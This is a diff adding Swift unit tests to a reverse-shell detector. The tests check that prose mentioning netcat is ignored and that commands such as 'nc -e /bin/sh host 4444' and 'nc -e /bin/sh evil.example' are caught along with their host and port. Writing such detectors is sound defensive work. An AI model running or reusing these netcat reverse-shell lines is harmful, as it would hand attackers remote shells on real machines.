@@ -76,4 +76,27 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
     #expect(shells(text).first?.host == "203.0.113.77")
     #expect(shells(text).first?.port == 4444)
   }
+
+  /// Words about netcat name no host.
+  @Test(arguments: [
+    "echo \"nc -e /bin/sh is disabled in this build\" >> NOTES", "netcat with -e /bin/sh option",
+    "do not use nc -e /bin/sh here", "we saw nc -e /bin/bash on the host", "nc -c bash doesn't work.",
+    "nc -e /bin/sh was blocked by policy 42 times", "ncat --exec /bin/sh option is off", "run nc -e /bin/sh over ssh",
+  ])
+  func proseIsNoShell(text: String) { #expect(shells(text).isEmpty) }
+
+  @Test(
+    arguments: [
+      ("nc -e /bin/sh host 4444", "host", 4444), ("nc host 4444 -e sh", "host", 4444),
+      ("nc kali https -e sh", "kali", 443),
+      ("H=kali; P=4444; nc -e /bin/sh $H $P", "kali", 4444), ("nc -e /bin/sh evil.example", "evil.example", nil),
+      ("nc -e /bin/sh $H $P", nil, nil), ("nc kali $P -e /bin/sh", "kali", nil),
+      ("os.system(\"nc -e /bin/sh \" + host + \" \" + port)", nil, nil),
+    ] as [(String, String?, Int?)])
+  func aNamedHostIsAShell(text: String, host: String?, port: Int?) {
+    let found = shells(text)
+    #expect(found.count == 1)
+    #expect(found.first?.host == host)
+    #expect(found.first?.port == port)
+  }
 }
